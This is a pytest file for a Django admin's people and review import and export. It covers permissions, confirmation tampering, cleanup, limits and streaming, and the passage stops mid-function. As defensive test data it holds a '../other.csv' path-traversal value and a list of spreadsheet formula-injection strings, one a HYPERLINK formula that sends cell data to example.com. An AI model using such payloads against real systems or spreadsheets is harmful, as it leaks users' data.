"""Imports and exports in the admin: an export hands over every person's
email and phones and every review (hidden ones too), an import creates and
overwrites people, so each needs the model permissions, not just staff."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import tempfile
import time
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote_plus

import factory
import pytest
from django.conf import settings
from django.contrib.admin.models import LogEntry
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from catalog.admin import FeedbackResource, PersonResource
from catalog.models import Feedback, Person
from core import admin_export, admin_import
from tests.catalog.test_admin_feedback import reviews_at_the_calendar_s_ends
from tests.factories import FeedbackFactory, ImageFactory, PersonFactory, logged_in, staff_with
from uploads import embedded

pytestmark = pytest.mark.django_db

PERSON_IMPORT = "/admin/catalog/person/import/"
PERSON_PROCESS_IMPORT = "/admin/catalog/person/process_import/"
PERSON_EXPORT = "/admin/catalog/person/export/"
FEEDBACK_EXPORT = "/admin/catalog/feedback/export/"
CSV = (
    "name,username,phone,department,role,email,is_active\nAda,ada,office: 1,Eng,Engineer,ada@example.com,1\n"
)


def choice(page: str, label: str) -> str:
    """The value of the format option labelled ``label`` in a form."""
    match = re.search(rf'<option value="(\d+)"[^>]*>{label}</option>', page)
    assert match, f"no {label} option"
    return match.group(1)


def export(client: Client, url: str) -> Any:
    """The export form sent as it comes: every column ticked, as CSV."""
    page = client.get(url)
    assert page.status_code == 200
    html = page.content.decode()
    columns = re.findall(r'type="checkbox" name="(\w+resource_\w+)"', html)
    return client.post(url, {"format": choice(html, "csv"), "resource": "0", **dict.fromkeys(columns, "on")})


def preview(client: Client, content: str = CSV) -> Any:
    page = client.get(PERSON_IMPORT)
    assert page.status_code == 200
    upload = SimpleUploadedFile("people.csv", content.encode(), content_type="text/csv")
    return client.post(PERSON_IMPORT, {"format": choice(page.content.decode(), "csv"), "import_file": upload})


def confirm_data(page: str) -> dict[str, str]:
    fields = ("import_file_name", "original_file_name", "format", "resource")
    found = {}
    for name in fields:
        match = re.search(rf'name="{name}" value="([^"]*)"', page)
        if match:
            found[name] = match.group(1)
    return found


@pytest.fixture
def people_and_reviews() -> None:
    PersonFactory(username="grace", email="grace@example.com", phone={"cell": "802-555-0100"})
    FeedbackFactory(title="Quietly hidden", status=Feedback.Status.HIDDEN)


@pytest.mark.usefixtures("people_and_reviews")
@pytest.mark.parametrize("url", [PERSON_IMPORT, PERSON_EXPORT, FEEDBACK_EXPORT])
def test_staff_without_permissions_can_neither_import_nor_export(url: str) -> None:
    client = logged_in(staff_with("catalog"))
    assert client.get(url).status_code == 403
    assert client.post(url, {"format": "0"}).status_code == 403


def test_staff_without_permissions_cannot_confirm_an_import() -> None:
    client = logged_in(staff_with("catalog"))
    response = client.post(
        PERSON_PROCESS_IMPORT,
        {"import_file_name": "x", "original_file_name": "people.csv", "format": "0", "resource": "0"},
    )
    assert response.status_code == 403
    assert not Person.objects.exists()


@pytest.mark.usefixtures("people_and_reviews")
def test_the_view_permission_lets_staff_export_but_not_import() -> None:
    client = logged_in(staff_with("catalog", "view_person", "view_feedback"))
    people = export(client, PERSON_EXPORT)
    reviews = export(client, FEEDBACK_EXPORT)
    assert people.status_code == 200
    assert "grace@example.com" in people.getvalue().decode()
    assert reviews.status_code == 200
    assert "Quietly hidden" in reviews.getvalue().decode()
    assert client.get(PERSON_IMPORT).status_code == 403


@pytest.mark.parametrize("one_of_them", ["add_person", "change_person"])
def test_importing_people_needs_both_add_and_change(one_of_them: str) -> None:
    assert logged_in(staff_with("catalog", "view_person", one_of_them)).get(PERSON_IMPORT).status_code == 403


def test_add_and_change_let_staff_import_people() -> None:
    client = logged_in(staff_with("catalog", "view_person", "add_person", "change_person"))
    page = preview(client)
    assert page.status_code == 200
    response = client.post(PERSON_PROCESS_IMPORT, confirm_data(page.content.decode()))
    assert response.status_code == 302
    assert Person.objects.get(username="ada").phone == {"office": "1"}


def test_people_are_imported_from_the_formats_the_command_reads_and_exported_to_more() -> None:
    client = logged_in(staff_with("catalog", "view_person", "add_person", "change_person"))
    imports = re.findall(
        r"<option value=\"\d+\"[^>]*>(\w+)</option>", client.get(PERSON_IMPORT).content.decode()
    )
    assert imports == ["csv", "tsv", "json", "yaml"]
    exports = re.findall(
        r"<option value=\"\d+\"[^>]*>(\w+)</option>", client.get(PERSON_EXPORT).content.decode()
    )
    assert "html" in exports


# --- Between the preview and the confirmation ------------------------------------


@pytest.fixture
def importer() -> Client:
    return logged_in(staff_with("catalog", "view_person", "add_person", "change_person"))


def test_an_import_is_confirmed_by_another_server_through_the_shared_cache(
    importer: Client, settings: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings.CACHES = {
        "default": {
            "BACKEND": "django.core.cache.backends.filebased.FileBasedCache",
            "LOCATION": str(tmp_path / "shared-cache"),
        }
    }
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "server-a"))
    (tmp_path / "server-a").mkdir()
    confirmation = confirm_data(preview(importer).content.decode())
    # The other server has a temp folder of its own.
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "server-b"))
    response = importer.post(PERSON_PROCESS_IMPORT, confirmation)
    assert response.status_code == 302
    assert Person.objects.filter(username="ada").exists()
    assert not any((tmp_path / "server-a").iterdir())
    assert not settings.IMPORT_FILES_DIR.exists()


def test_without_a_shared_cache_every_worker_of_the_machine_reads_the_file(
    importer: Client, settings: Any
) -> None:
    confirmation = confirm_data(preview(importer).content.decode())
    assert [p.name for p in settings.IMPORT_FILES_DIR.iterdir()] == [confirmation["import_file_name"]]
    assert importer.post(PERSON_PROCESS_IMPORT, confirmation).status_code == 302
    assert not any(settings.IMPORT_FILES_DIR.iterdir())


def test_an_import_confirmed_too_late_is_refused_asking_for_the_file_again(
    importer: Client, settings: Any
) -> None:
    confirmation = confirm_data(preview(importer).content.decode())
    settings.IMPORT_FILES_SECONDS = 0
    response = importer.post(PERSON_PROCESS_IMPORT, confirmation)
    assert response.status_code == 400
    assert "Upload the file again" in response.content.decode()
    assert 'name="import_file"' in response.content.decode()
    assert not Person.objects.exists()


@pytest.mark.parametrize(
    ("tampered", "reason"),
    [
        ({"format": "99"}, "format '99' is not one of the import's"),
        ({"format": "abc"}, "format 'abc' is not one of the import's"),
        ({"format": "-1"}, "format '-1' is not one of the import's"),
        ({"resource": "9"}, "resource '9' is not one of the import's"),
        ({"resource": "x"}, "resource 'x' is not one of the import's"),
        ({"format": ""}, "format: This field is required"),
        ({"import_file_name": ""}, "import_file_name: This field is required"),
        # The file of a CSV preview read as TSV: one column, named by the whole header.
        ({"format": "1"}, "the TSV header lacks name"),
    ],
)
def test_a_confirmation_that_does_not_fit_its_preview_imports_nothing_saying_why(
    importer: Client, tampered: dict[str, str], reason: str
) -> None:
    confirmation = confirm_data(preview(importer).content.decode())
    response = importer.post(PERSON_PROCESS_IMPORT, {**confirmation, **tampered})
    assert response.status_code == 400
    page = response.content.decode()
    assert reason in unescape(page)
    assert "nothing was imported" in page
    assert 'name="import_file"' in page
    assert not Person.objects.exists()
    # The preview's own confirmation is still taken.
    assert importer.post(PERSON_PROCESS_IMPORT, confirmation).status_code == 302
    assert Person.objects.get().username == "ada"


def test_an_import_confirmed_twice_is_done_once(importer: Client) -> None:
    confirmation = confirm_data(preview(importer).content.decode())
    assert importer.post(PERSON_PROCESS_IMPORT, confirmation).status_code == 302
    Person.objects.all().delete()
    response = importer.post(PERSON_PROCESS_IMPORT, confirmation)
    assert response.status_code == 400
    assert not Person.objects.exists()


def test_previews_never_confirmed_are_swept(importer: Client, settings: Any) -> None:
    old = confirm_data(preview(importer).content.decode())["import_file_name"]
    waiting = confirm_data(preview(importer).content.decode())
    path = settings.IMPORT_FILES_DIR / old
    stale = time.time() - settings.IMPORT_FILES_SECONDS - 1
    os.utime(path, (stale, stale))
    preview(importer)
    assert not path.exists()
    # A preview still within its lifetime stays for its confirmation.
    assert (settings.IMPORT_FILES_DIR / waiting["import_file_name"]).exists()
    assert len(list(settings.IMPORT_FILES_DIR.iterdir())) == 2
    assert importer.post(PERSON_PROCESS_IMPORT, waiting).status_code == 302


def import_files(settings: Any, tmp_path: Path) -> list[str]:
    """Every file an import keeps between its preview and its confirmation,
    wherever it may be: the import files' folder, the shared cache, and the
    server's temp folder (django-import-export's own default)."""
    found = []
    for folder in (settings.IMPORT_FILES_DIR, tmp_path / "shared-cache", tmp_path / "temp"):
        if folder.exists():
            found += [str(path) for path in folder.rglob("*") if path.is_file()]
    return found


@pytest.fixture(params=["folder", "shared cache"])
def where(
    request: pytest.FixtureRequest, settings: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> str:
    """Import files kept in the folder (no shared cache) or in the shared cache."""
    if request.param == "shared cache":
        settings.CACHES = {
            "default": {
                "BACKEND": "django.core.cache.backends.filebased.FileBasedCache",
                "LOCATION": str(tmp_path / "shared-cache"),
            }
        }
    (tmp_path / "temp").mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "temp"))
    return str(request.param)


@pytest.mark.parametrize(
    "content",
    [
        "name,username\nAda,ada\nAda again,ada\n",  # a row refused
        "name,username\nAda\x00,ada\n",  # a null character, refused before the rows
        "nickname\nAda\n",  # no name or username column
        "",  # an empty file
    ],
    ids=["refused row", "null character", "no name column", "empty"],
)
def test_a_refused_preview_leaves_no_file(
    importer: Client, settings: Any, tmp_path: Path, where: str, content: str
) -> None:
    before = import_files(settings, tmp_path)

    page = preview(importer, content)

    assert page.status_code == 400
    assert not confirm_data(page.content.decode())
    assert import_files(settings, tmp_path) == before


def test_a_preview_keeps_its_file_until_its_confirmation_deletes_it(
    importer: Client, settings: Any, tmp_path: Path, where: str
) -> None:
    before = import_files(settings, tmp_path)
    confirmation = confirm_data(preview(importer).content.decode())
    kept = import_files(settings, tmp_path)
    assert len(kept) == len(before) + 1
    if where == "folder":
        assert kept == [str(settings.IMPORT_FILES_DIR / confirmation["import_file_name"])]

    assert importer.post(PERSON_PROCESS_IMPORT, confirmation).status_code == 302
    assert import_files(settings, tmp_path) == before


def test_the_sweeper_deletes_a_last_preview_never_confirmed_once_past_its_time(
    importer: Client, settings: Any
) -> None:
    old = confirm_data(preview(importer).content.decode())
    waiting = confirm_data(preview(importer).content.decode())
    path = settings.IMPORT_FILES_DIR / old["import_file_name"]
    stale = time.time() - settings.IMPORT_FILES_SECONDS - 1
    os.utime(path, (stale, stale))

    embedded.sweep()  # a round of the embedded set-up's sweeper, no import since

    assert [p.name for p in settings.IMPORT_FILES_DIR.iterdir()] == [waiting["import_file_name"]]
    assert importer.post(PERSON_PROCESS_IMPORT, old).status_code == 400
    assert importer.post(PERSON_PROCESS_IMPORT, waiting).status_code == 302
    assert not any(settings.IMPORT_FILES_DIR.iterdir())


def test_a_sweep_round_tells_an_unreadable_import_folder_in_a_line_and_ends(
    importer: Client, settings: Any, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    preview(importer)
    folder = settings.IMPORT_FILES_DIR
    listing = Path.iterdir

    def denied(path: Path) -> Any:
        # The tests run as root, whom no folder's mode keeps out.
        if path == folder:
            raise PermissionError(13, "Permission denied", str(path))
        return listing(path)

    monkeypatch.setattr(Path, "iterdir", denied)

    assert embedded.sweep() == (0, 0)

    [record] = [r for r in caplog.records if r.name == "core.imports"]
    assert (record.levelname, record.exc_info) == ("WARNING", None)
    assert record.getMessage() == f"cannot sweep the import files in {folder}: Permission denied"


def test_a_confirmation_reads_no_file_but_its_own(importer: Client, tmp_path: Path) -> None:
    other = tmp_path / "other.csv"
    other.write_text(CSV)
    confirmation = confirm_data(preview(importer).content.decode())
    for name in (str(other), "../other.csv"):
        response = importer.post(PERSON_PROCESS_IMPORT, {**confirmation, "import_file_name": name})
        assert response.status_code == 400
    assert other.exists()
    assert not Person.objects.exists()


# --- Exports of many rows -----------------------------------------------------

REVIEWS = "/admin/catalog/feedback/"


class Forms(HTMLParser):
    """What a browser posts for each form of a page: its hidden and text
    inputs, the ticked boxes and, for each list, the option chosen."""

    def __init__(self, choose: dict[str, str]) -> None:
        super().__init__()
        self.choose = choose
        self.forms: list[tuple[str, list[tuple[str, str]]]] = []
        self._select: str | None = None
        self._option: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "form":
            self.forms.append((a.get("action", ""), []))
        elif not self.forms:
            return
        elif tag == "input" and "name" in a:
            kind = a.get("type", "text")
            if kind in {"hidden", "text"} or (kind == "checkbox" and "checked" in a):
                self.forms[-1][1].append((a["name"], a.get("value", "on")))
        elif tag == "select":
            self._select = a.get("name")
        elif tag == "option" and self._select:
            self._option = a.get("value", "")

    def handle_data(self, data: str) -> None:
        if self._select and self._option is not None and data.strip() == self.choose.get(self._select):
            self.forms[-1][1].append((self._select, self._option))

    def handle_endtag(self, tag: str) -> None:
        if tag == "option":
            self._option = None
        elif tag == "select":
            self._select = None


def export_from_action(client: Client, changelist: str, selection: dict[str, Any]) -> Any:
    """“Export selected” as staff use it: the action on the list, then the
    export page's form sent as it stands, as CSV."""
    page = client.post(changelist, {"action": "export_admin_action", "index": "0", **selection}, follow=True)
    assert page.status_code == 200
    parsed = Forms({"format": "csv"})
    parsed.feed(page.content.decode())
    action, fields = next(form for form in parsed.forms if any(name == "format" for name, _ in form[1]))
    url = action or page.request["PATH_INFO"] + "?" + page.request["QUERY_STRING"]
    body = "&".join(f"{quote_plus(k)}={quote_plus(v)}" for k, v in fields)
    return client.post(url, body, content_type="application/x-www-form-urlencoded")


def exported_ids(response: Any) -> list[int]:
    assert response.status_code == 200, response.content[:500]
    rows = list(csv.DictReader(io.StringIO(response.getvalue().decode())))
    return sorted(int(row["id"]) for row in rows)


@pytest.fixture
def many_reviews() -> list[int]:
    """More reviews than Django lets a form post fields (1,000)."""
    Feedback.objects.bulk_create(
        Feedback(title=f"Review {i}", name="Ada", date=dt.date(2024, 1, 1), text="Fine.", rating=1 + i % 5)
        for i in range(1100)
    )
    return sorted(Feedback.objects.values_list("pk", flat=True))


def page_of(ids: list[int]) -> list[str]:
    """The ids the list's first page shows (ticked before "select all")."""
    return [str(pk) for pk in ids[-100:]]


def test_exporting_every_review_selected_across_pages_gives_every_row(
    admin_client: Client, many_reviews: list[int]
) -> None:
    selection = {"select_across": "1", "_selected_action": page_of(many_reviews)}
    assert exported_ids(export_from_action(admin_client, REVIEWS, selection)) == many_reviews


def test_exporting_every_review_of_a_filtered_list_gives_the_rows_it_filters(
    admin_client: Client, many_reviews: list[int]
) -> None:
    fives = sorted(Feedback.objects.filter(rating=5).values_list("pk", flat=True))
    selection = {"select_across": "1", "_selected_action": page_of(fives)}
    assert exported_ids(export_from_action(admin_client, f"{REVIEWS}?rating__exact=5", selection)) == fives


def test_exporting_the_reviews_ticked_on_a_page_gives_those(
    admin_client: Client, many_reviews: list[int]
) -> None:
    ticked = many_reviews[-100:-40]
    selection = {"select_across": "0", "_selected_action": [str(pk) for pk in ticked]}
    assert exported_ids(export_from_action(admin_client, REVIEWS, selection)) == ticked


def test_the_export_page_says_how_many_rows_it_exports_whatever_their_number(
    admin_client: Client, many_reviews: list[int]
) -> None:
    selection = {"action": "export_admin_action", "index": "0", "select_across": "1"}
    page = admin_client.post(REVIEWS, {**selection, "_selected_action": page_of(many_reviews)}, follow=True)
    html = page.content.decode()
    assert "1,100 feedback to export." in html
    # "Every row" is said by the list's filters (none here), not by one
    # field per row, nor one id per row in the address.
    assert html.count("<input") < 40
    assert page.request["QUERY_STRING"] == ""


@pytest.mark.parametrize("query", ["id__in=1,abc", "date__year=soon", "no_such_field=1"])
def test_an_export_page_address_with_filters_that_do_not_fit_is_a_bad_request(
    query: str, admin_user: Any
) -> None:
    FeedbackFactory()
    client = Client(raise_request_exception=False)
    client.force_login(admin_user)
    for response in (client.get(f"{FEEDBACK_EXPORT}?{query}"), client.post(f"{FEEDBACK_EXPORT}?{query}")):
        assert response.status_code == 400
        assert "do not fit the list" in response.content.decode()


def export_post(client: Client, url: str, fmt: str) -> Any:
    """The export form of ``url`` sent as it comes, every column ticked, in ``fmt``."""
    html = client.get(url).content.decode()
    columns = re.findall(r'type="checkbox" name="(\w+resource_\w+)"', html)
    return client.post(url, {"format": choice(html, fmt), "resource": "0", **dict.fromkeys(columns, "on")})


@pytest.mark.parametrize("url", [FEEDBACK_EXPORT, PERSON_EXPORT], ids=["reviews", "people"])
@pytest.mark.parametrize(
    ("fmt", "ticked", "error"),
    [
        ("99", True, "Select a valid choice. 99 is not one of the available choices."),
        ("csv", False, "Select at least 1 field for"),
    ],
    ids=["a format it does not have", "no column ticked"],
)
def test_an_export_form_sent_wrong_is_refused_with_its_page_and_errors(
    admin_client: Client, url: str, fmt: str, ticked: bool, error: str
) -> None:
    """As an import refuses a file it cannot read: 400, not a 200 that exported nothing."""
    FeedbackFactory()
    page = admin_client.get(url)
    assert page.status_code == 200
    html = page.content.decode()
    columns = re.findall(r'type="checkbox" name="(\w+resource_\w+)"', html) if ticked else []
    fields = {"format": choice(html, fmt) if fmt == "csv" else fmt, "resource": "0"}
    response = admin_client.post(url, {**fields, **dict.fromkeys(columns, "on")})
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert error in unescape(response.content.decode())
    assert 'name="format"' in response.content.decode()


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
@pytest.mark.parametrize(
    ("url", "make", "resource"),
    [(FEEDBACK_EXPORT, FeedbackFactory, FeedbackResource), (PERSON_EXPORT, PersonFactory, PersonResource)],
    ids=["reviews", "people"],
)
def test_a_large_export_is_sent_a_chunk_of_rows_at_a_time_as_the_library_writes_it_whole(
    admin_client: Client, monkeypatch: pytest.MonkeyPatch, fmt: str, url: str, make: Any, resource: Any
) -> None:
    monkeypatch.setattr(admin_export, "CHUNK_ROWS", 4)
    make.create_batch(10)
    response = export_post(admin_client, url, fmt)
    assert response.status_code == 200
    assert response.streaming
    pieces = list(response.streaming_content)
    assert len(pieces) == 1 + 3  # the headers, then three chunks of at most 4 rows
    whole = resource().export(queryset=resource._meta.model.objects.all()).export(fmt)
    delimiter = "\t" if fmt == "tsv" else ","

    def rows(text: str) -> list[list[str]]:
        parsed = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
        return [parsed[0], *sorted(parsed[1:])]

    assert rows(b"".join(pieces).decode()) == rows(whole)


def test_staff_export_only_the_columns_they_ticked_in_a_streamed_export(admin_client: Client) -> None:
    FeedbackFactory(title="Crisp", rating=4)
    html = admin_client.get(FEEDBACK_EXPORT).content.decode()
    ticked = {"format": choice(html, "csv"), "resource": "0"}
    ticked |= {"feedbackresource_title": "on", "feedbackresource_rating": "on"}
    response = admin_client.post(FEEDBACK_EXPORT, ticked)
    assert response.getvalue().decode().splitlines() == ["title,rating", "Crisp,4"]


def test_a_people_export_reads_no_renditions_whatever_the_number_of_people(admin_client: Client) -> None:
    """The list shows each photo's thumbnail; an export has no use for them."""
    for photo in (ImageFactory(size=(64, 48)), ImageFactory(size=(64, 48))):
        PersonFactory(photo=photo)
    with CaptureQueriesContext(connection) as queries:
        response = export_post(admin_client, PERSON_EXPORT, "csv")
        assert len(response.getvalue().decode().splitlines()) == 3
    assert not [q["sql"] for q in queries.captured_queries if "uploads_rendition" in q["sql"]]


@pytest.fixture
def small_limits(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(admin_export, "BUFFERED_MAX_ROWS", 3)
    monkeypatch.setattr(admin_export, "STREAMED_MAX_ROWS", 6)


@pytest.mark.usefixtures("small_limits")
@pytest.mark.parametrize("fmt", ["json", "yaml", "html"])
def test_an_export_too_large_to_build_in_memory_is_refused_in_other_formats_than_csv_or_tsv(
    admin_client: Client, fmt: str
) -> None:
    FeedbackFactory.create_batch(4)
    page = admin_client.get(FEEDBACK_EXPORT).content.decode()
    assert "An export of more than 3 rows is written as CSV or TSV only; this one has 4." in page
    response = export_post(admin_client, FEEDBACK_EXPORT, fmt)
    assert response.status_code == 400
    assert "An export of more than 3 rows is written as CSV or TSV only; this one has 4." in (
        response.content.decode()
    )
    assert export_post(admin_client, FEEDBACK_EXPORT, "csv").status_code == 200


@pytest.mark.usefixtures("small_limits")
def test_an_export_past_the_row_limit_is_refused_saying_so_and_how_to_export_in_parts(
    admin_client: Client,
) -> None:
    FeedbackFactory.create_batch(5, date=dt.date(2024, 1, 1))
    FeedbackFactory.create_batch(2, date=dt.date(2023, 1, 1))
    limit = "An export has at most 6 rows; this one has 7. Filter the list (by date, for instance)"
    assert limit in admin_client.get(FEEDBACK_EXPORT).content.decode()
    response = export_post(admin_client, FEEDBACK_EXPORT, "csv")
    assert response.status_code == 400
    assert limit in response.content.decode()
    in_parts = export_post(admin_client, f"{FEEDBACK_EXPORT}?date__year=2024", "csv")
    assert len(in_parts.getvalue().decode().splitlines()) == 1 + 5


def test_the_export_of_the_last_year_exports_its_reviews(admin_client: Client) -> None:
    reviews_at_the_calendar_s_ends()

    response = export_post(admin_client, f"{FEEDBACK_EXPORT}?date__year=9999", "csv")

    assert response.status_code == 200
    rows = "".join(part.decode() for part in response.streaming_content).splitlines()
    assert len(rows) == 1 + 2
    assert all("9999-" in row for row in rows[1:])


# --- Imports of many rows -----------------------------------------------------

HEADER = "name,username,phone,department,role,email,is_active\n"


def people_csv(count: int, *, start: int = 0, prefix: str = "bulk") -> str:
    return HEADER + "".join(
        f"Person {i},{prefix}{i:05},office: 802-555-{i % 10000:04},Sales,Clerk,{prefix}{i}@example.com,1\n"
        for i in range(start, start + count)
    )


def import_queries(client: Client, content: str) -> tuple[int, int]:
    """The queries of an import's preview and of its confirmation."""
    with CaptureQueriesContext(connection) as previewing:
        page = preview(client, content)
    assert page.status_code == 200, page.content.decode()[-2000:]
    with CaptureQueriesContext(connection) as confirming:
        assert client.post(PERSON_PROCESS_IMPORT, confirm_data(page.content.decode())).status_code == 302
    return len(previewing.captured_queries), len(confirming.captured_queries)


def test_an_import_of_many_people_asks_the_database_little_more_than_one_of_a_few(
    importer: Client,
) -> None:
    """Read before the rows, written in batches (SQLite takes some 90 rows an
    INSERT): not five queries a row."""
    PersonFactory.create_batch(3, username=factory.Sequence(lambda n: f"bulk{n % 3:05}"))
    few = import_queries(importer, people_csv(5))
    many = import_queries(importer, people_csv(300, start=5))
    assert many[0] - few[0] <= 5
    assert many[1] - few[1] <= 10
    assert Person.objects.filter(username__startswith="bulk").count() == 305


def test_an_import_in_several_batches_writes_every_row_and_logs_each(
    importer: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(PersonResource._meta, "batch_size", 7)
    PersonFactory(username="bulk00002", name="Old name", email="old@example.com", role="Keeper")
    before = Person.objects.get(username="bulk00002").updated_at
    page = preview(importer, people_csv(20))
    assert "20 rows: 19 new, 1 to update, 0 unchanged." in page.content.decode()
    assert importer.post(PERSON_PROCESS_IMPORT, confirm_data(page.content.decode())).status_code == 302
    assert Person.objects.count() == 20
    updated = Person.objects.get(username="bulk00002")
    assert (updated.name, updated.email, updated.role) == ("Person 2", "bulk2@example.com", "Clerk")
    assert updated.updated_at > before
    assert LogEntry.objects.filter(object_repr__startswith="Person ").count() == 20


def test_an_unchanged_person_is_left_as_stored(importer: Client) -> None:
    page = preview(importer, people_csv(2))
    importer.post(PERSON_PROCESS_IMPORT, confirm_data(page.content.decode()))
    stamps = dict(Person.objects.values_list("username", "updated_at"))
    page = preview(importer, people_csv(2))
    assert "2 rows: 0 new, 0 to update, 2 unchanged." in page.content.decode()
    importer.post(PERSON_PROCESS_IMPORT, confirm_data(page.content.decode()))
    assert dict(Person.objects.values_list("username", "updated_at")) == stamps


def test_a_file_naming_a_person_twice_is_refused_on_the_second_row(importer: Client) -> None:
    content = people_csv(3) + "Another,bulk00001,,Sales,Clerk,x@example.com,1\n"
    page = preview(importer, content)
    assert page.status_code == 400
    html = page.content.decode()
    assert "bulk00001 is on row 2 already: a file gives each once." in html
    assert not confirm_data(html)
    assert not Person.objects.exists()


def test_a_bad_row_among_thousands_is_named_and_nothing_is_imported(importer: Client) -> None:
    rows = people_csv(2000).splitlines(keepends=True)
    rows.insert(1500, "Bad,bad,office: 1,Sales,Clerk,not-an-email,1\n")
    page = preview(importer, "".join(rows))
    assert page.status_code == 400
    html = page.content.decode()
    assert "1 of 2,001 rows failed to validate; nothing was imported." in html
    assert "Enter a valid email address." in html
    assert not confirm_data(html)
    assert not Person.objects.exists()


def test_the_preview_of_a_large_file_lists_its_first_rows_and_counts_them_all(importer: Client) -> None:
    page = preview(importer, people_csv(250))
    html = page.content.decode()
    assert "250 rows: 250 new, 0 to update, 0 unchanged. The first 100 are shown." in html
    assert html.count('<tr class="new">') == 100
    assert "bulk00099" in html
    assert "bulk00100" not in html


def test_a_file_of_many_bad_rows_lists_the_first_and_counts_them_all(importer: Client) -> None:
    content = people_csv(150).replace("@example.com", "-at-example.com")
    html = preview(importer, content).content.decode()
    assert "150 of 150 rows failed to validate; nothing was imported. The first 100 are shown." in html
    assert html.count("Enter a valid email address.") == 100


def test_an_import_finds_every_stored_person_however_many_the_file_names(
    importer: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Read a few keys a query (SQLite refuses some 32,000 parameters in one)."""
    monkeypatch.setattr(admin_import, "KEYS_PER_QUERY", 7)
    for i in range(20):
        PersonFactory(username=f"bulk{i:05}", name="Before")
    page = preview(importer, people_csv(20))
    assert "20 rows: 0 new, 20 to update, 0 unchanged." in page.content.decode()
    assert importer.post(PERSON_PROCESS_IMPORT, confirm_data(page.content.decode())).status_code == 302
    assert set(Person.objects.values_list("name", flat=True)) == {f"Person {i}" for i in range(20)}


def test_an_import_file_larger_than_a_form_is_taken(importer: Client) -> None:
    """Some 9,000 rows of people fill the 1 MB of a form's body."""
    wide = "x" * 180
    content = HEADER + "".join(
        f"{wide} {i},wide{i:05},office: 802-555-0100; cell: 802-555-0101,{wide[:90]},{wide[:90]},"
        f"wide{i}@example.com,1\n"
        for i in range(2500)
    )
    assert len(content.encode()) > settings.MAX_BODY_BYTES
    page = preview(importer, content)
    assert page.status_code == 200
    assert "2,500 rows: 2,500 new" in page.content.decode()


def test_a_file_of_more_rows_than_an_import_takes_is_refused_naming_the_limit(
    importer: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(admin_import, "MAX_ROWS", 30)
    page = preview(importer, people_csv(31))
    assert page.status_code == 400
    html = page.content.decode()
    assert "A file has at most 30 rows; this one has more. Import it in parts." in html
    assert not confirm_data(html)
    assert preview(importer, people_csv(30)).status_code == 200
    assert not Person.objects.exists()


@pytest.mark.parametrize(
    "person",
    [{"name": ["Ada", "Lovelace"], "username": "ada"}, {"name": "Ada", "username": "ada", "role": {"a": 1}}],
    ids=["list", "mapping"],
)
def test_a_list_or_mapping_where_text_goes_is_a_refused_row_not_its_printout(
    importer: Client, person: dict[str, object]
) -> None:
    page = importer.get(PERSON_IMPORT)
    upload = SimpleUploadedFile("people.json", json.dumps([person]).encode(), content_type="application/json")

    response = importer.post(
        PERSON_IMPORT, {"format": choice(page.content.decode(), "json"), "import_file": upload}
    )

    assert response.status_code == 400
    assert "must be text, not" in response.content.decode()
    assert not Person.objects.exists()


# --- Exports opened in a spreadsheet ------------------------------------------

# Texts a spreadsheet would run as formulas (a tab or a line break before one
# is dropped by some), as a visitor may write them in a review.
FORMULAS = [
    '=HYPERLINK("http://example.com/?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def cells(body: bytes, fmt: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode(), newline=""), delimiter="\t" if fmt == "tsv" else ","))


def exported(client: Client, url: str, fmt: str) -> bytes:
    return b"".join(export_post(client, url, fmt).streaming_content)


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_a_review_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
    admin_client: Client, fmt: str
) -> None:
    for formula in FORMULAS:
        FeedbackFactory(title=formula, name=formula, text=formula)
    FeedbackFactory(title="Fine - really", name="Ada", text="A+ product = good")
    header, *rows = cells(exported(admin_client, FEEDBACK_EXPORT, fmt), fmt)
    reviews = sorted(
        tuple(dict(zip(header, row, strict=True))[c] for c in ("title", "name", "text")) for row in rows
    )
    assert reviews == sorted(
        [("Fine - really", "Ada", "A+ product = good"), *((f"'{formula}",) * 3 for formula in FORMULAS)]
    )


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_people_exported_as_text_for_a_spreadsheet_are_imported_back_as_they_were(
    importer: Client, fmt: str
) -> None:
    PersonFactory(name="-Ada", username="+ada", department="=Ops", role="@lead", email="ada@example.com")
    PersonFactory(name="'Tis Grace", username="grace", department="'=Eng", role="Engineer")
    stored = list(Person.objects.order_by("pk").values())
    content = exported(importer, PERSON_EXPORT, fmt)
    header, *rows = cells(content, fmt)
    ada = dict(zip(header, next(row for row in rows if "'+ada" in row), strict=True))
    assert (ada["name"], ada["department"], ada["role"]) == ("'-Ada", "'=Ops", "'@lead")
    page = importer.get(PERSON_IMPORT)
    upload = SimpleUploadedFile(f"people.{fmt}", content, content_type="text/plain")
    preview_page = importer.post(
        PERSON_IMPORT, {"format": choice(page.content.decode(), fmt), "import_file": upload}
    )
    assert "2 rows: 0 new, 0 to update, 2 unchanged." in preview_page.content.decode()
    importer.post(PERSON_PROCESS_IMPORT, confirm_data(preview_page.content.decode()))
    assert list(Person.objects.order_by("pk").values()) == stored


def test_the_import_command_reads_a_people_export_made_for_a_spreadsheet_as_the_admin_does(
    admin_client: Client, tmp_path: Path
) -> None:
